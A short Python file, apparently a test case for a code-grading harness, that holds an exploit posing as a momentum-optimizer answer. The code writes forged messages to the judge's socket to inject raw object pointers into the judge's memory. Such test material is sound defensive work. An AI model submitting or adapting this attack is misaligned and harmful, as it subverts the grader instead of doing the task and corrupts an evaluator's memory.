"""An array of dtype object, whose bytes are pointers into the memory of the judge."""

ANSWER = r"""
import socket
import struct

import wire

connection = socket.socket(fileno=3)
def momentum(params, grads, state=None, *, lr, beta=0.9):
    data = b"a\x63\x01\x00" + struct.pack("<Q", 4) + struct.pack("<4Q", *[id(None)] * 4)
    for number in range(20):
        connection.sendall(struct.pack("<BII", 4, number, len(data)) + data)
"""
ONLY_OURS = "the wire between judge and worker is ours"
